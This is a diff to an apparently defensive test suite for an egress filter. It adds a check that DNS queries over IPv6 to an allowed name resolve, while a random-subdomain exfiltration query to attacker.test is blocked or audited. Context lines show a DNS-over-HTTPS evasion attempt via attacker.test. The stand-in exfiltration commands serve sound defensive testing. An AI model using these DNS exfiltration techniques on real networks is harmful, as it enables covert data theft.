@@ -197,6 +197,26 @@ for (const mode of ['block', 'audit'] as const) {
       }
     });
 
+    test('4b: DNS over IPv6 (a resolver reached over IPv6 is redirected to [::1]): allowed names answer in both modes, an exfil name is NXDOMAIN in block', async () => {
+      const allowed = await world.job('dig', ['+short', '+tries=1', '+time=3', `@${NET.dns6}`, 'allowed.test', 'A']);
+      assert.equal(allowed.code, 0, `audit must not break IPv6 DNS: ${allowed.stderr}${allowed.stdout}`);
+      assert.equal(allowed.stdout.trim(), NET.allowed);
+      const name = `${randomLabel(40)}.attacker.test`;
+      const exfil = await world.job('dig', ['+tries=1', '+time=3', `@${NET.dns6}`, name, 'A']);
+      assert.equal(exfil.code, 0, exfil.stderr);
+      const event = await world.decision((e) => e.kind === 'dns' && e.host === name);
+      assert.equal(event?.decision, outcomeFor(mode));
+      assert.match(event?.client ?? '', /^\[[0-9a-f:]+\]:\d+$/, 'the query came over IPv6, to the IPv6 listener');
+      const reached = arrivedAt((e) => e.type === 'dns' && e.name === name);
+      if (mode === 'block') {
+        assert.match(exfil.stdout, /status: NXDOMAIN/);
+        assert.equal(reached.length, 0, 'never sent upstream');
+      } else {
+        assert.match(exfil.stdout, /status: NOERROR/);
+        assert.equal(reached.length, 1, 'audit forwards it');
+      }
+    });
+
     test('5: DNS-over-HTTPS to a non-allowed resolver, and to the attacker under a forged allowed SNI', async () => {
       const doh = await curl(['--doh-url', 'https://attacker.test/dns-query', 'https://allowed.test/']);
       const dohEvent = await world.decision((e) => e.host === 'attacker.test' && (e.kind === 'dns' || e.kind === 'transparent'));
